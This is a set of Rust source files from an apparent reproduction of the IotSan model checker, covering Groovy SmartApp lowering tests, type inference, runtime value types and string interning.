        assert!(opaque >= 1, "recursive helper should end in an opaque call");
    }

    #[test]
    fn detects_dynamic_discovery() {
        let src = r#"
definition(name: "Spy Camera", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "trigger", "capability.motionSensor" } }
def installed() { subscribe(trigger, "motion.active", handler) }
def handler(evt) {
    def devices = getChildDevices()
    devices.each { it.off() }
}
"#;
        let app = lower(src);
        assert!(app.dynamic_discovery);
    }

    #[test]
    fn lowers_state_variables() {
        let src = r#"
definition(name: "Stateful", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "door", "capability.contactSensor" } }
def installed() { subscribe(door, "contact", handler) }
def handler(evt) {
    state.count = state.count + 1
    state.lastValue = evt.value
}
"#;
        let app = lower(src);
        assert!(app.state_vars.contains(&"count".to_string()));
        assert!(app.state_vars.contains(&"lastValue".to_string()));
        assert!(matches!(app.handlers[0].body[0], IrStmt::AssignState { .. }));
    }

    #[test]
    fn lowers_quantified_queries() {
        let src = r#"
definition(name: "All Off Check", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "switches", "capability.switch", multiple: true } }
def installed() { subscribe(switches, "switch", handler) }
def handler(evt) {
    if (switches.any { it.currentSwitch == "on" }) {
        sendPush("something is on")
    }
}
"#;
        let app = lower(src);
        let IrStmt::If { cond, .. } = &app.handlers[0].body[0] else { panic!() };
        let mut found = false;
        cond.walk(&mut |e| {
            if matches!(e, IrExpr::DeviceQuery { quantifier: Quantifier::Any, .. }) {
                found = true;
            }
        });
        assert!(found, "expected a DeviceQuery, got {cond}");
    }

    #[test]
    fn lowers_switch_statement_to_if_chain() {
        let src = r#"
definition(name: "Mode Actions", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "lock1", "capability.lock" } }
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    switch (evt.value) {
        case "Away":
            lock1.lock()
            break
        case "Home":
            lock1.unlock()
            break
        default:
            log.debug "no action"
    }
}
"#;
        let app = lower(src);
        let h = &app.handlers[0];
        assert_eq!(h.trigger, Trigger::LocationMode { value: None });
        let cmds = h.device_commands();
        assert!(cmds.contains(&("lock1".into(), "lock".into())));
        assert!(cmds.contains(&("lock1".into(), "unlock".into())));
    }

    #[test]
    fn lowers_timer_handlers() {
        let src = r#"
definition(name: "Timed", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "heater", "capability.switch" } }
def installed() {
    subscribe(heater, "switch", handler)
    runIn(600, turnOff)
}
def handler(evt) { }
def turnOff() { heater.off() }
"#;
        let app = lower(src);
        assert_eq!(app.handlers.len(), 2);
        let timer = app.handlers.iter().find(|h| h.name == "turnOff").unwrap();
        assert_eq!(timer.trigger, Trigger::Timer { delay_seconds: Some(600) });
    }

    #[test]
    fn elvis_and_ternary_lowered() {
        let src = r#"
definition(name: "Elvis", namespace: "st", author: "a", description: "d")
preferences {
    section("s") { input "door", "capability.contactSensor" }
    section("s") { input "minutes", "number", required: false }
}
def installed() { subscribe(door, "contact", handler) }
def handler(evt) {
    def delay = (minutes ?: 10) * 60
    runIn(delay, later)
}
def later() { }
"#;
        let app = lower(src);
        let IrStmt::AssignLocal { value, .. } = &app.handlers[0].body[0] else { panic!() };
        let mut has_ternary = false;
        value.walk(&mut |e| {
            if matches!(e, IrExpr::Ternary { .. }) {
                has_ternary = true;
            }
        });
        assert!(has_ternary);
    }
}
