//! Anchor-point type inference for SmartThings Groovy (§6 of the paper).
//!
//! Groovy is dynamically typed, but lowering to a statically typed model
//! requires knowing whether a comparison is numeric or textual and what a
//! helper method returns.  Following the paper, types are seeded at *anchor
//! points* — explicit declarations, constant assignments, known API return
//! values, and `preferences` input kinds — and propagated iteratively until a
//! fixpoint is reached.

use crate::types::Type;
use iotsan_groovy::ast::{walk_stmt_exprs, BinOp, Expr, MethodDecl, Stmt};
use iotsan_groovy::smartapp::{InputKind, SmartApp};
use std::collections::BTreeMap;

/// The result of inference: types for settings, method returns and locals.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct TypeEnv {
    /// Types of `preferences` settings (device inputs get device types).
    pub settings: BTreeMap<String, Type>,
    /// Inferred return type of every method in the app.
    pub method_returns: BTreeMap<String, Type>,
    /// Inferred types of local variables, keyed by `"method::var"`.
    pub locals: BTreeMap<String, Type>,
}

impl TypeEnv {
    /// The type of a setting, defaulting to [`Type::Unknown`].
    pub fn setting(&self, name: &str) -> Type {
        self.settings.get(name).cloned().unwrap_or(Type::Unknown)
    }

    /// The return type of a method, defaulting to [`Type::Unknown`].
    pub fn method_return(&self, name: &str) -> Type {
        self.method_returns.get(name).cloned().unwrap_or(Type::Unknown)
    }

    /// The type of a local in a method, defaulting to [`Type::Unknown`].
    pub fn local(&self, method: &str, var: &str) -> Type {
        self.locals.get(&format!("{method}::{var}")).cloned().unwrap_or(Type::Unknown)
    }
}

/// Runs inference over a whole app.
pub fn infer_app(app: &SmartApp) -> TypeEnv {
    let mut env = TypeEnv::default();

    // Anchor 1: preferences inputs.
    for input in &app.inputs {
        let ty = match &input.kind {
            InputKind::Capability(cap) => {
                if input.multiple {
                    Type::DeviceList(cap.clone())
                } else {
                    Type::Device(cap.clone())
                }
            }
            InputKind::Number => Type::Int,
            InputKind::Decimal => Type::Decimal,
            InputKind::Bool => Type::Bool,
            InputKind::Enum(_)
            | InputKind::Text
            | InputKind::Phone
            | InputKind::Contact
            | InputKind::Time
            | InputKind::Mode => Type::Str,
            InputKind::Other(_) => Type::Unknown,
        };
        env.settings.insert(input.name.clone(), ty);
    }

    // Iterate to a fixpoint: method return types feed call-site types which
    // feed other methods' locals and returns.
    let methods: Vec<&MethodDecl> = app.script.methods().collect();
    for _round in 0..4 {
        let mut changed = false;
        for method in &methods {
            changed |= infer_method(method, &mut env);
        }
        if !changed {
            break;
        }
    }
    env
}

/// Infers locals and the return type of a single method; returns true when
/// anything changed (for the fixpoint loop).
fn infer_method(method: &MethodDecl, env: &mut TypeEnv) -> bool {
    let mut changed = false;
    let mut locals: BTreeMap<String, Type> = BTreeMap::new();

    // Declared parameter types and the conventional `evt` parameter.
    for param in &method.params {
        let ty = match &param.ty {
            Some(t) => from_declared(&t.name, t.array_dims),
            None if param.name == "evt" || param.name == "event" => Type::Map,
            None => Type::Unknown,
        };
        locals.insert(param.name.clone(), ty);
    }

    // Walk statements, seeding anchors and propagating.
    let mut return_ty = method
        .return_type
        .as_ref()
        .map(|t| from_declared(&t.name, t.array_dims))
        .unwrap_or(Type::Unknown);

    let mut visit = |stmt: &Stmt| match stmt {
        Stmt::VarDecl { ty, name, init, .. } => {
            let declared = ty.as_ref().map(|t| from_declared(&t.name, t.array_dims));
            let inferred =
                init.as_ref().map(|e| infer_expr(e, &locals, env)).unwrap_or(Type::Unknown);
            let ty = declared.unwrap_or(Type::Unknown).unify(&inferred);
            let entry = locals.entry(name.clone()).or_insert(Type::Unknown);
            *entry = entry.unify(&ty);
        }
        Stmt::Assign { target, value, .. } => {
            if let Some(name) = target.as_var() {
                let ty = infer_expr(value, &locals, env);
                let entry = locals.entry(name.to_string()).or_insert(Type::Unknown);
                *entry = entry.unify(&ty);
            }
        }
        Stmt::Return(Some(e), _) => {
            let ty = infer_expr(e, &locals, env);
            return_ty = return_ty.unify(&ty);
        }
        _ => {}
    };
    iotsan_groovy::ast::walk_block(&method.body, &mut visit);

    // A method whose body is a single expression returns that expression
    // (Groovy's implicit return), e.g. `private onSwitches() { switches + onSwitches }`.
    if return_ty == Type::Unknown {
        if let Some(Stmt::Expr(e)) = method.body.stmts.last() {
            return_ty = infer_expr(e, &locals, env);
        }
    }
    if return_ty == Type::Unknown {
        return_ty = Type::Void;
    }

    for (var, ty) in locals {
        let key = format!("{}::{var}", method.name);
        let prev = env.locals.get(&key);
        if prev != Some(&ty) {
            env.locals.insert(key, ty);
            changed = true;
        }
    }
    let prev = env.method_returns.get(&method.name);
    if prev != Some(&return_ty) {
        env.method_returns.insert(method.name.clone(), return_ty);
        changed = true;
    }
    changed
}

/// Maps a declared Groovy/Java type name to an inferred [`Type`].
fn from_declared(name: &str, array_dims: usize) -> Type {
    let base = match name {
        "int" | "Integer" | "long" | "Long" | "short" | "byte" => Type::Int,
        "double" | "Double" | "float" | "Float" | "BigDecimal" | "Number" => Type::Decimal,
        "boolean" | "Boolean" => Type::Bool,
        "String" | "GString" | "CharSequence" => Type::Str,
        "List" | "ArrayList" | "Collection" | "Set" | "HashSet" => {
            Type::List(Box::new(Type::Unknown))
        }
        "Map" | "HashMap" | "LinkedHashMap" => Type::Map,
        "void" => Type::Void,
        _ => Type::Unknown,
    };
    (0..array_dims).fold(base, |t, _| Type::List(Box::new(t)))
}

/// Infers the type of an expression given the current local/settings context.
fn infer_expr(expr: &Expr, locals: &BTreeMap<String, Type>, env: &TypeEnv) -> Type {
    match expr {
        Expr::Int(..) => Type::Int,
        Expr::Decimal(..) => Type::Decimal,
        Expr::Str(..) | Expr::GString(..) => Type::Str,
        Expr::Bool(..) => Type::Bool,
        Expr::Null(_) => Type::Unknown,
        Expr::Var(name, _) => locals
            .get(name)
            .cloned()
            .filter(|t| *t != Type::Unknown)
            .unwrap_or_else(|| env.setting(name)),
        Expr::ListLit(items, _) => {
            let inner = items
                .iter()
                .map(|e| infer_expr(e, locals, env))
                .fold(Type::Unknown, |acc, t| acc.unify(&t));
            Type::List(Box::new(inner))
        }
        Expr::MapLit(..) => Type::Map,
        Expr::Range { .. } => Type::List(Box::new(Type::Int)),
        Expr::Property { object, name, .. } => infer_property(object, name, locals, env),
        Expr::MethodCall { object, name, .. } => infer_call(object.as_deref(), name, locals, env),
        Expr::Binary { op, lhs, rhs, .. } => match op {
            BinOp::Eq
            | BinOp::NotEq
            | BinOp::Lt
            | BinOp::Le
            | BinOp::Gt
            | BinOp::Ge
            | BinOp::And
            | BinOp::Or
            | BinOp::In => Type::Bool,
            BinOp::Compare => Type::Int,
            BinOp::Add | BinOp::Sub | BinOp::Mul | BinOp::Div | BinOp::Mod => {
                let l = infer_expr(lhs, locals, env);
                let r = infer_expr(rhs, locals, env);
                match (&l, &r) {
                    // `+` on device lists stays a device list (Figure 6 in the
                    // paper: `switches + onSwitches`).
                    (Type::DeviceList(c), _) | (_, Type::DeviceList(c)) => {
                        Type::DeviceList(c.clone())
                    }
                    (Type::List(i), _) | (_, Type::List(i)) => Type::List(i.clone()),
                    (Type::Str, _) | (_, Type::Str) if *op == BinOp::Add => Type::Str,
                    _ if l.is_numeric() && r.is_numeric() => l.unify(&r),
                    _ if l.is_numeric() || r.is_numeric() => Type::Decimal,
                    _ => l.unify(&r),
                }
            }
        },
        Expr::Unary { op, operand, .. } => match op {
            iotsan_groovy::ast::UnOp::Not => Type::Bool,
            iotsan_groovy::ast::UnOp::Neg => infer_expr(operand, locals, env),
        },
        Expr::Ternary { then, els, .. } => {
            infer_expr(then, locals, env).unify(&infer_expr(els, locals, env))
        }
        Expr::Elvis { value, fallback, .. } => {
            infer_expr(value, locals, env).unify(&infer_expr(fallback, locals, env))
        }
        Expr::Index { object, .. } => match infer_expr(object, locals, env) {
            Type::List(inner) => *inner,
            Type::DeviceList(cap) => Type::Device(cap),
            other => other,
        },
        Expr::Closure { .. } => Type::Unknown,
        Expr::Cast { ty, .. } => from_declared(&ty.name, ty.array_dims),
        Expr::New { ty, .. } => from_declared(&ty.name, ty.array_dims),
    }
}

/// Numeric device attributes (everything else reads as a string state).
const NUMERIC_ATTRIBUTES: &[&str] = &[
    "temperature",
    "illuminance",
    "humidity",
    "level",
    "battery",
    "power",
    "energy",
    "heatingSetpoint",
    "coolingSetpoint",
    "thermostatSetpoint",
    "soundPressureLevel",
];

fn infer_property(
    object: &Expr,
    name: &str,
    locals: &BTreeMap<String, Type>,
    env: &TypeEnv,
) -> Type {
    // evt.<field>
    if object.as_var() == Some("evt") || object.as_var() == Some("event") {
        return match name {
            "doubleValue" | "floatValue" | "integerValue" | "longValue" | "numericValue"
            | "numberValue" => Type::Decimal,
            "date" => Type::Str,
            _ => Type::Str,
        };
    }
    if object.as_var() == Some("location") {
        return Type::Str;
    }
    if object.as_var() == Some("state") || object.as_var() == Some("atomicState") {
        return Type::Unknown;
    }
    // Device attribute reads: `sensor.currentTemperature`.
    let receiver_ty = infer_expr(object, locals, env);
    if matches!(receiver_ty, Type::Device(_) | Type::DeviceList(_)) {
        let attr = name
            .strip_prefix("current")
            .or_else(|| name.strip_prefix("latest"))
            .map(|s| {
                let mut c = s.chars();
                match c.next() {
                    Some(first) => first.to_lowercase().collect::<String>() + c.as_str(),
                    None => String::new(),
                }
            })
            .unwrap_or_else(|| name.to_string());
        return if NUMERIC_ATTRIBUTES.contains(&attr.as_str()) { Type::Decimal } else { Type::Str };
    }
    Type::Unknown
}

fn infer_call(
    object: Option<&Expr>,
    name: &str,
    locals: &BTreeMap<String, Type>,
    env: &TypeEnv,
) -> Type {
    if let Some(obj) = object {
        let receiver_ty = infer_expr(obj, locals, env);
        return match name {
            "toInteger" | "toLong" => Type::Int,
            "toDouble" | "toFloat" | "toBigDecimal" => Type::Decimal,
            "toString" | "trim" | "toLowerCase" | "toUpperCase" => Type::Str,
            "size" | "count" => Type::Int,
            "contains" | "any" | "every" | "isEmpty" => Type::Bool,
            "currentValue" | "latestValue" => Type::Str,
            "find" | "first" | "last" => match receiver_ty {
                Type::DeviceList(cap) => Type::Device(cap),
                Type::List(inner) => *inner,
                other => other,
            },
            "findAll" | "collect" | "sort" | "unique" | "plus" => receiver_ty,
            _ => Type::Unknown,
        };
    }
    match name {
        "now" => Type::Int,
        _ => env.method_return(name),
    }
}

/// Collects the set of expressions in a method whose inferred type remained
/// [`Type::Unknown`]; useful for diagnosing translator coverage.
pub fn unknown_typed_exprs(method: &MethodDecl, env: &TypeEnv) -> usize {
    let mut count = 0;
    // Seed with the locals already inferred for this method.
    let prefix = format!("{}::", method.name);
    let mut locals: BTreeMap<String, Type> = env
        .locals
        .iter()
        .filter_map(|(k, v)| k.strip_prefix(&prefix).map(|var| (var.to_string(), v.clone())))
        .collect();
    for p in &method.params {
        locals.entry(p.name.clone()).or_insert(Type::Unknown);
    }
    for stmt in &method.body.stmts {
        walk_stmt_exprs(stmt, &mut |e| {
            if infer_expr(e, &locals, env) == Type::Unknown {
                count += 1;
            }
        });
    }
    count
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_groovy::SmartApp;

    const APP: &str = r#"
definition(name: "Virtual Thermostat", namespace: "st", author: "a", description: "d")
preferences {
    section("s") { input "sensor", "capability.temperatureMeasurement" }
    section("s") { input "outlets", "capability.switch", multiple: true }
    section("s") { input "setpoint", "decimal" }
    section("s") { input "minutes", "number", required: false }
    section("s") { input "mode", "enum", options: ["heat", "cool"] }
}
def installed() { subscribe(sensor, "temperature", temperatureHandler) }
def temperatureHandler(evt) {
    def currentTemp = evt.doubleValue
    def threshold = setpoint - 1.0
    def label = "temp is ${currentTemp}"
    def isCooling = mode == "cool"
    if (currentTemp > threshold) {
        outlets.on()
    }
}
private onOutlets() {
    outlets + outlets
}
def delaySeconds() {
    return (minutes ?: 10) * 60
}
def wrapper() {
    def d = delaySeconds()
    return d
}
"#;

    fn env() -> TypeEnv {
        infer_app(&SmartApp::parse(APP).unwrap())
    }

    #[test]
    fn settings_typed_from_input_kinds() {
        let env = env();
        assert_eq!(env.setting("sensor"), Type::Device("temperatureMeasurement".into()));
        assert_eq!(env.setting("outlets"), Type::DeviceList("switch".into()));
        assert_eq!(env.setting("setpoint"), Type::Decimal);
        assert_eq!(env.setting("minutes"), Type::Int);
        assert_eq!(env.setting("mode"), Type::Str);
    }

    #[test]
    fn locals_inferred_from_anchors() {
        let env = env();
        assert_eq!(env.local("temperatureHandler", "currentTemp"), Type::Decimal);
        assert_eq!(env.local("temperatureHandler", "threshold"), Type::Decimal);
        assert_eq!(env.local("temperatureHandler", "label"), Type::Str);
        assert_eq!(env.local("temperatureHandler", "isCooling"), Type::Bool);
    }

    #[test]
    fn list_plus_keeps_device_list_type() {
        // Mirrors Figure 6 of the paper: the return type of a helper that
        // concatenates two device lists is the device-array type.
        let env = env();
        assert_eq!(env.method_return("onOutlets"), Type::DeviceList("switch".into()));
    }

    #[test]
    fn method_returns_propagate_through_callers() {
        let env = env();
        assert!(env.method_return("delaySeconds").is_numeric());
        assert!(env.method_return("wrapper").is_numeric());
        assert_eq!(env.method_return("installed"), Type::Void);
    }

    #[test]
    fn declared_types_respected() {
        let src = r#"
definition(name: "Typed", namespace: "st", author: "a", description: "d")
def compute() {
    Integer idx = 0
    String label = null
    return idx
}
"#;
        let app = SmartApp::parse(src).unwrap();
        let env = infer_app(&app);
        assert_eq!(env.local("compute", "idx"), Type::Int);
        assert_eq!(env.local("compute", "label"), Type::Str);
        assert_eq!(env.method_return("compute"), Type::Int);
    }

    #[test]
    fn unknown_counter_is_finite() {
        let app = SmartApp::parse(APP).unwrap();
        let env = infer_app(&app);
        let m = app.script.method("temperatureHandler").unwrap();
        // Most expressions in the handler should be typed.
        assert!(unknown_typed_exprs(m, &env) <= 3);
    }
}
