//! Runtime values and inferred types for the IotSan intermediate
//! representation.
//!
//! Groovy is dynamically typed; the paper's translator (§6) performs *anchor
//! point* type inference so that handlers can be lowered into a statically
//! typed form (originally Java for Bandera, here the IotSan IR). [`Type`] is
//! the inferred static type; [`Value`] is the dynamic value domain the model
//! checker interprets over.

use std::fmt;

/// A dynamic value manipulated by an event handler at verification time.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// Integer value.
    Int(i64),
    /// Decimal value (temperatures, setpoints).
    Decimal(f64),
    /// String value (attribute states such as `"on"`, `"open"`, `"away"`).
    Str(String),
    /// Boolean value.
    Bool(bool),
    /// Null / unset.
    Null,
    /// A list of values (e.g. a multi-device setting).
    List(Vec<Value>),
}

impl Value {
    /// Interprets the value as a boolean using Groovy truthiness rules:
    /// `null`, `false`, `0`, `""` and `[]` are false, everything else is true.
    pub fn truthy(&self) -> bool {
        match self {
            Value::Null => false,
            Value::Bool(b) => *b,
            Value::Int(v) => *v != 0,
            Value::Decimal(v) => *v != 0.0,
            Value::Str(s) => !s.is_empty(),
            Value::List(items) => !items.is_empty(),
        }
    }

    /// Numeric view of the value, if it has one (`"75"` parses as 75.0).
    pub fn as_number(&self) -> Option<f64> {
        match self {
            Value::Int(v) => Some(*v as f64),
            Value::Decimal(v) => Some(*v),
            Value::Bool(b) => Some(if *b { 1.0 } else { 0.0 }),
            Value::Str(s) => s.trim().parse::<f64>().ok(),
            _ => None,
        }
    }

    /// String view of the value (numbers render like Groovy's `toString`).
    pub fn as_string(&self) -> String {
        match self {
            Value::Str(s) => s.clone(),
            Value::Int(v) => v.to_string(),
            Value::Decimal(v) => format!("{v}"),
            Value::Bool(b) => b.to_string(),
            Value::Null => "null".to_string(),
            Value::List(items) => {
                let inner: Vec<String> = items.iter().map(|v| v.as_string()).collect();
                format!("[{}]", inner.join(", "))
            }
        }
    }

    /// Groovy `==` semantics: numeric comparison when both sides are numeric,
    /// otherwise string comparison, with `null` equal only to `null`.
    pub fn loosely_equals(&self, other: &Value) -> bool {
        match (self, other) {
            (Value::Null, Value::Null) => true,
            (Value::Null, _) | (_, Value::Null) => false,
            (Value::List(a), Value::List(b)) => {
                a.len() == b.len() && a.iter().zip(b).all(|(x, y)| x.loosely_equals(y))
            }
            // Allocation-free fast path for the overwhelmingly common
            // string/string case (attribute states, modes): numeric when both
            // parse, byte comparison otherwise — exactly the general rule
            // below, minus the `as_string` clones.
            (Value::Str(a), Value::Str(b)) => {
                match (a.trim().parse::<f64>().ok(), b.trim().parse::<f64>().ok()) {
                    (Some(x), Some(y)) => (x - y).abs() < f64::EPSILON,
                    _ => a == b,
                }
            }
            _ => match (self.as_number(), other.as_number()) {
                (Some(a), Some(b)) => (a - b).abs() < f64::EPSILON,
                _ => self.as_string() == other.as_string(),
            },
        }
    }

    /// [`Value::loosely_equals`] against a plain string, without wrapping it
    /// in a [`Value`] (and therefore without allocating): the property
    /// checker compares attribute values against literals on every explored
    /// transition.
    pub fn eq_str(&self, other: &str) -> bool {
        match (self.as_number(), other.trim().parse::<f64>().ok()) {
            (Some(a), Some(b)) => (a - b).abs() < f64::EPSILON,
            _ => match self {
                Value::Str(s) => s == other,
                Value::Null => false,
                other_value => other_value.as_string() == other,
            },
        }
    }

    /// Numeric ordering used by `<`, `<=`, `>`, `>=`; strings fall back to
    /// lexicographic comparison.
    pub fn compare(&self, other: &Value) -> Option<std::cmp::Ordering> {
        match (self.as_number(), other.as_number()) {
            (Some(a), Some(b)) => a.partial_cmp(&b),
            _ => Some(self.as_string().cmp(&other.as_string())),
        }
    }
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.as_string())
    }
}

impl From<i64> for Value {
    fn from(v: i64) -> Self {
        Value::Int(v)
    }
}

impl From<f64> for Value {
    fn from(v: f64) -> Self {
        Value::Decimal(v)
    }
}

impl From<&str> for Value {
    fn from(v: &str) -> Self {
        Value::Str(v.to_string())
    }
}

impl From<String> for Value {
    fn from(v: String) -> Self {
        Value::Str(v)
    }
}

impl From<bool> for Value {
    fn from(v: bool) -> Self {
        Value::Bool(v)
    }
}

/// An inferred static type.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Type {
    /// Integer.
    Int,
    /// Decimal / floating point.
    Decimal,
    /// Boolean.
    Bool,
    /// String.
    Str,
    /// A single device exposing the given capability, e.g. `switch`.
    Device(String),
    /// A list of devices exposing the given capability.
    DeviceList(String),
    /// A homogeneous list of the given element type.
    List(Box<Type>),
    /// A map (only used for `sendEvent` payloads and similar).
    Map,
    /// No value (void methods).
    Void,
    /// Not yet known.
    Unknown,
}

impl Type {
    /// True when the type is numeric.
    pub fn is_numeric(&self) -> bool {
        matches!(self, Type::Int | Type::Decimal)
    }

    /// The least upper bound of two inferred types; `Unknown` acts as bottom.
    pub fn unify(&self, other: &Type) -> Type {
        match (self, other) {
            (Type::Unknown, t) | (t, Type::Unknown) => t.clone(),
            (a, b) if a == b => a.clone(),
            (Type::Int, Type::Decimal) | (Type::Decimal, Type::Int) => Type::Decimal,
            (Type::Device(c), Type::DeviceList(d)) | (Type::DeviceList(c), Type::Device(d))
                if c == d =>
            {
                Type::DeviceList(c.clone())
            }
            (Type::List(a), Type::List(b)) => Type::List(Box::new(a.unify(b))),
            // Conflicting anchors degrade to Str, the safest dynamic carrier.
            _ => Type::Str,
        }
    }

    /// The Java-like rendering the paper's G2J translator would produce; used
    /// by the Promela emitter's comments and by diagnostics.
    pub fn java_name(&self) -> String {
        match self {
            Type::Int => "int".to_string(),
            Type::Decimal => "double".to_string(),
            Type::Bool => "boolean".to_string(),
            Type::Str => "String".to_string(),
            Type::Device(cap) => format!("ST{}", camel(cap)),
            Type::DeviceList(cap) => format!("ST{}[]", camel(cap)),
            Type::List(inner) => format!("{}[]", inner.java_name()),
            Type::Map => "Map".to_string(),
            Type::Void => "void".to_string(),
            Type::Unknown => "Object".to_string(),
        }
    }
}

impl fmt::Display for Type {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.java_name())
    }
}

/// Upper-cases the first character (capability → Java class name fragment).
fn camel(s: &str) -> String {
    let mut chars = s.chars();
    match chars.next() {
        Some(first) => first.to_uppercase().collect::<String>() + chars.as_str(),
        None => String::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::cmp::Ordering;

    #[test]
    fn truthiness_follows_groovy() {
        assert!(!Value::Null.truthy());
        assert!(!Value::Bool(false).truthy());
        assert!(!Value::Int(0).truthy());
        assert!(!Value::Str(String::new()).truthy());
        assert!(!Value::List(vec![]).truthy());
        assert!(Value::Str("on".into()).truthy());
        assert!(Value::Int(3).truthy());
    }

    #[test]
    fn loose_equality_compares_numbers_and_strings() {
        assert!(Value::Int(75).loosely_equals(&Value::Decimal(75.0)));
        assert!(Value::Str("75".into()).loosely_equals(&Value::Int(75)));
        assert!(Value::Str("on".into()).loosely_equals(&Value::Str("on".into())));
        assert!(!Value::Str("on".into()).loosely_equals(&Value::Str("off".into())));
        assert!(Value::Null.loosely_equals(&Value::Null));
        assert!(!Value::Null.loosely_equals(&Value::Int(0)));
    }

    #[test]
    fn comparison_is_numeric_when_possible() {
        assert_eq!(Value::Int(70).compare(&Value::Decimal(75.5)), Some(Ordering::Less));
        assert_eq!(Value::Str("80".into()).compare(&Value::Int(75)), Some(Ordering::Greater));
        assert_eq!(
            Value::Str("away".into()).compare(&Value::Str("home".into())),
            Some(Ordering::Less)
        );
    }

    #[test]
    fn value_display_and_from() {
        assert_eq!(Value::from(3i64).to_string(), "3");
        assert_eq!(Value::from("open").to_string(), "open");
        assert_eq!(Value::List(vec![Value::Int(1), Value::Str("a".into())]).to_string(), "[1, a]");
    }

    #[test]
    fn unify_promotes_and_degrades() {
        assert_eq!(Type::Int.unify(&Type::Decimal), Type::Decimal);
        assert_eq!(Type::Unknown.unify(&Type::Bool), Type::Bool);
        assert_eq!(Type::Str.unify(&Type::Int), Type::Str);
        assert_eq!(
            Type::Device("switch".into()).unify(&Type::DeviceList("switch".into())),
            Type::DeviceList("switch".into())
        );
    }

    #[test]
    fn java_names_match_bandera_style() {
        assert_eq!(Type::Device("switch".into()).java_name(), "STSwitch");
        assert_eq!(Type::DeviceList("switch".into()).java_name(), "STSwitch[]");
        assert_eq!(Type::Decimal.java_name(), "double");
        assert_eq!(Type::List(Box::new(Type::Int)).java_name(), "int[]");
    }
}
