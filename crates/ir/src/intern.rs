//! String interning for the exploration hot loop.
//!
//! The model checker touches app names, device labels, attribute names and
//! handler names on every transition.  Keying runtime structures by owned
//! `String`s means every successor state clones, compares and re-hashes those
//! bytes millions of times.  [`Symbols`] interns each distinct name exactly
//! once — at lowering/installation time — and hands out a copyable [`Sym`]
//! (a `u32` index into an append-only table), so the hot loop moves 4-byte
//! integers instead of heap strings and renders text only when a
//! counterexample is materialized.
//!
//! Determinism: symbol ids are assigned in first-intern order, so two systems
//! built from the same inputs in the same order produce identical tables —
//! and therefore byte-identical state encodings (`tests/state_interning.rs`
//! guards this).

use std::collections::HashMap;
use std::fmt;

/// An interned string: a dense index into a [`Symbols`] table.
///
/// `Sym`s are only meaningful together with the table that produced them;
/// resolving a `Sym` against a different table is a logic error (caught by
/// the bounds check in [`Symbols::resolve`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Sym(pub u32);

impl Sym {
    /// The table index.
    #[inline]
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

impl fmt::Display for Sym {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "sym{}", self.0)
    }
}

/// An append-only string interner.
///
/// * [`Symbols::intern`] deduplicates: the same text always returns the same
///   [`Sym`], and ids are assigned densely in first-intern order.
/// * [`Symbols::resolve`] is a bounds-checked array index — no hashing.
/// * [`Symbols::lookup`] finds an existing symbol without interning (the
///   read-only form the interpreter uses at verification time, when the
///   table is already frozen).
#[derive(Debug, Clone, Default)]
pub struct Symbols {
    table: Vec<String>,
    index: HashMap<String, u32>,
}

impl Symbols {
    /// Creates an empty interner.
    pub fn new() -> Self {
        Self::default()
    }

    /// Interns `text`, returning its (new or existing) symbol.
    pub fn intern(&mut self, text: &str) -> Sym {
        if let Some(&id) = self.index.get(text) {
            return Sym(id);
        }
        let id = u32::try_from(self.table.len()).expect("symbol table overflow");
        self.table.push(text.to_string());
        self.index.insert(text.to_string(), id);
        Sym(id)
    }

    /// The symbol for `text` if it was interned before, without interning.
    pub fn lookup(&self, text: &str) -> Option<Sym> {
        self.index.get(text).map(|&id| Sym(id))
    }

    /// The text of `sym`.
    ///
    /// # Panics
    ///
    /// Panics when `sym` did not come from this table.
    #[inline]
    pub fn resolve(&self, sym: Sym) -> &str {
        &self.table[sym.index()]
    }

    /// Number of distinct interned strings.
    pub fn len(&self) -> usize {
        self.table.len()
    }

    /// True when nothing has been interned yet.
    pub fn is_empty(&self) -> bool {
        self.table.is_empty()
    }

    /// Iterates `(Sym, text)` pairs in id order.
    pub fn iter(&self) -> impl Iterator<Item = (Sym, &str)> {
        self.table.iter().enumerate().map(|(i, s)| (Sym(i as u32), s.as_str()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn intern_deduplicates_and_resolves() {
        let mut syms = Symbols::new();
        let a = syms.intern("motion");
        let b = syms.intern("presence");
        let a2 = syms.intern("motion");
        assert_eq!(a, a2);
        assert_ne!(a, b);
        assert_eq!(syms.resolve(a), "motion");
        assert_eq!(syms.resolve(b), "presence");
        assert_eq!(syms.len(), 2);
        assert!(!syms.is_empty());
    }

    #[test]
    fn ids_are_dense_in_first_intern_order() {
        let mut syms = Symbols::new();
        assert_eq!(syms.intern("a"), Sym(0));
        assert_eq!(syms.intern("b"), Sym(1));
        assert_eq!(syms.intern("a"), Sym(0));
        assert_eq!(syms.intern("c"), Sym(2));
        let collected: Vec<_> = syms.iter().map(|(s, t)| (s.0, t.to_string())).collect();
        assert_eq!(collected, vec![(0, "a".into()), (1, "b".into()), (2, "c".into())]);
    }

    #[test]
    fn lookup_never_interns() {
        let mut syms = Symbols::new();
        assert_eq!(syms.lookup("x"), None);
        let x = syms.intern("x");
        assert_eq!(syms.lookup("x"), Some(x));
        assert_eq!(syms.len(), 1);
    }

    #[test]
    fn sym_display_and_index() {
        let sym = Sym(7);
        assert_eq!(sym.to_string(), "sym7");
        assert_eq!(sym.index(), 7);
    }
}
