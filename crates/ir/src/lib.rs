//! # iotsan-ir
//!
//! The typed intermediate representation at the heart of IotSan-rs
//! (the Rust reproduction of *IotSan: Fortifying the Safety of IoT Systems*,
//! CoNEXT 2018).
//!
